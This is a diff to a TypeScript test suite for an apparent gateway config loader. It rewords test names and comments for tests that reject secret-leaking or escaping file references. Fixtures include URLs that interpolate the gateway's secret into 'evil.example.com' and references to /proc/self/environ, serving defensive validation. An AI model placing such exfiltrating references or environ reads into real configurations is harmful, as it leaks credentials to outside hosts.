@@ -40,7 +40,7 @@ symlinkSync('environ', join(home, 'own/environ-again'))
 symlinkSync('../../outside/key', join(home, 'own/outside'))
 symlinkSync('../../outside', join(home, 'own/elsewhere'))
 
-/** Loads a main file, and a fragment where there is one; returns `FILE:LINE CODE` of the errors. */
+/** Loads a main file, and perhaps a fragment. Returns the errors as `FILE:LINE CODE`. */
 function errors(main: string, fragment?: string): string[] {
   return loadAll(main, fragment).diagnostics.flatMap(({ file, line, code, severity }) =>
     severity === 'error' ? [`${file.slice(home.length + 1)}:${line} ${code}`] : [],
@@ -57,7 +57,7 @@ const url = 'url: "https://tools.example.com/mcp"'
 const proxy = (upstream: string): string => `proxies: {a: {auth: none, upstream: {${upstream}}}}`
 const header = (reference: string): string => proxy(`${url}, headers: {X-Key: {${reference}}}`)
 
-/** Every place that a reference to a file may have. */
+/** Every place of a reference to a file. */
 const places: Record<string, (reference: string) => string> = {
   'a header': header,
   'a query parameter': reference => proxy(`${url}, query: {key: {${reference}}}`),
@@ -99,7 +99,7 @@ const system = [
   'own/self/no-such-file',
 ]
 
-t.test('a reference led to what the system says of processes', async t => {
+t.test('a reference could lead to /proc, /sys or /dev', async t => {
   for (const [name, place] of Object.entries({ ...places, ...verifying })) {
     for (const file of system) {
       const found = errors(place(`file: "${file}"`))
@@ -118,7 +118,7 @@ t.test('a reference led to what the system says of processes', async t => {
   }
 })
 
-t.test('what the system says is not even read', async t => {
+t.test('a file in /proc, /sys or /dev is not even read', async t => {
   const { files } = loadAll(header('file: own/self/environ'))
   t.same(files, [join(home, 'gateway.yaml')])
   for (const include of ['/proc/self/environ', '/proc/*/environ', '/dev/zero', 'own/environ', 'own/self/*']) {
@@ -129,7 +129,7 @@ t.test('what the system says is not even read', async t => {
   t.ok(errors(`revocations: own/environ\n${proxy(url)}`).includes('gateway.yaml:2 GH1380'))
 })
 
-t.test('an object form cannot allow what the system says', async t => {
+t.test('the object form of an include item cannot allow /proc, /sys or /dev', async t => {
   const include =
     'include: [{path: teams/a.yaml, owns: ["*"], files: ["/*", "*"], env: ["*"], hosts: ["*"]}]\n'
   t.same(errors(include, header('file: /proc/self/environ')), ['teams/a.yaml:1 GH1026'])
@@ -155,7 +155,7 @@ const own: Record<string, [block: string, references: string[]]> = {
   ],
 }
 
-t.test('what is for the gateway itself was sent elsewhere', async t => {
+t.test("the gateway's own secrets could be sent elsewhere", async t => {
   for (const [what, [block, references]] of Object.entries(own)) {
     for (const [name, place] of Object.entries(places)) {
       for (const reference of references) {
@@ -171,7 +171,7 @@ t.test('what is for the gateway itself was sent elsewhere', async t => {
   }
 })
 
-t.test('what is for the gateway itself was put into text', async t => {
+t.test("the gateway's own secrets could be part of a text", async t => {
   const texts = [
     proxy('url: "https://evil.example.com/${PEPPER}"'),
     proxy('url: "https://evil.example.com/?k=${PEPPER:-none}"'),
@@ -193,7 +193,7 @@ t.test('what is for the gateway itself was put into text', async t => {
   }
 })
 
-t.test('an authority may verify in both directions, and other secrets go upstream', async t => {
+t.test('a CA may verify in both directions, and other secrets may go upstream', async t => {
   const both = errors(
     `listen: {tls: {cert: {file: own/other}, key: {env: TLS_KEY}, clientCa: {file: own/other}}}\n${proxy(`${url}, tls: {ca: {file: own/other}}`)}`,
   )
@@ -204,7 +204,7 @@ t.test('an authority may verify in both directions, and other secrets go upstrea
   )
 })
 
-t.test('a fragment referred to files outside the folder of the main file', async t => {
+t.test('a fragment could refer to files outside the folder of the main file', async t => {
   const plain = 'include: [teams/a.yaml]\n'
   for (const file of [
     '../../outside/key',
@@ -220,7 +220,7 @@ t.test('a fragment referred to files outside the folder of the main file', async
   t.same(errors(allowed, header(`file: ${folder}/outside/key`)), [])
 })
 
-t.test('a link under a pattern made a fragment of any file', async t => {
+t.test('a link that a pattern matches could make any file a fragment', async t => {
   mkdirSync(join(home, 'linked'), { recursive: true })
   symlinkSync('../../outside/team.yaml', join(home, 'linked/team.yaml'))
   symlinkSync('../teams/a.yaml', join(home, 'linked/within.yaml'))
@@ -248,7 +248,7 @@ t.test('one body could fill the memory', async t => {
   }
 })
 
-t.test('a method for keys took a header of the protocol away from everybody', async t => {
+t.test('an auth method for keys could withhold a header of the protocol from everybody', async t => {
   const api = (name: string): string => `auth: {k: {type: api-key, in: header, name: ${name}}}\n${proxy(url)}`
   const certificate = (name: string): string =>
     `auth: {m: {type: mtls, grants: [{when: {san: a}, roles: [r]}], from: {header: ${name}, proxies: [127.0.0.1], ca: {file: own/other}}}}\nroles: {r: {access: {}}}\n${proxy(url)}`
@@ -270,28 +270,28 @@ t.test('a method for keys took a header of the protocol away from everybody', as
   t.notMatch(
     errors(`auth: {k: {type: api-key, in: query, name: accept}}\n${proxy(url)}`).join(),
     /GH1309/,
-    'a query parameter is no header',
+    'a query parameter is not a header',
   )
 })
 
-/** A hash with these parameters; which one, says the number. */
+/** Returns a hash with these parameters; the number makes it unique. */
 const slow = (index: number, parameters = 'm=19456,t=2,p=1'): string =>
   `argon2id:$argon2id$v=19$${parameters}$MDEyMzQ1Njc4OWFiY2RlZg$${Buffer.alloc(32, index + 1)
     .toString('base64')
     .replace('=', '')}`
-/** A key for each hash. */
+/** Returns a key for each hash. */
 const keys = (hashes: string[], name = 'k'): string =>
   `keys: {${hashes.map((hash, index) => `${name}${index}: {roles: [r], secrets: [{hash: "${hash}"}]}`).join(', ')}}\n`
 const reader = 'roles: {r: {access: {}}}\n'
 
-t.test('one fragment used up what slow hashes may cost', async t => {
+t.test('one fragment could use up the budget of slow hashes', async t => {
   const many = (count: number, parameters?: string, from = 0): string[] =>
     Array.from({ length: count }, (_, index) => slow(from + index, parameters))
   const main = `include: [teams/a.yaml]\n${reader}${proxy(url)}\n`
   t.same(errors(main, keys(many(4))), [])
   t.same(errors(main, keys(many(5))), ['teams/a.yaml:1 GH1362'])
   t.same(errors(main, keys(many(16))), ['teams/a.yaml:1 GH1362'])
-  t.same(errors(main, keys(many(17))), ['teams/a.yaml:1 GH1362'], 'and no other file is told')
+  t.same(errors(main, keys(many(17))), ['teams/a.yaml:1 GH1362'], 'no other file is reported')
   t.same(errors(main, keys(many(1, 'm=262144,t=3,p=1'))), [])
   t.same(errors(main, keys(many(1, 'm=262144,t=4,p=1'))), ['teams/a.yaml:1 GH1362'])
   t.same(errors(`${reader}${keys(many(16))}${proxy(url)}`), [])
@@ -307,7 +307,7 @@ t.test('one fragment used up what slow hashes may cost', async t => {
   )
 })
 
-t.test('a field of another kind of auth method, with another type, threw an error', async t => {
+t.test('a field of another type of auth method threw an error', async t => {
   for (const [field, value] of [
     ['grants', 'text'],
     ['grants', '{a: 1}'],
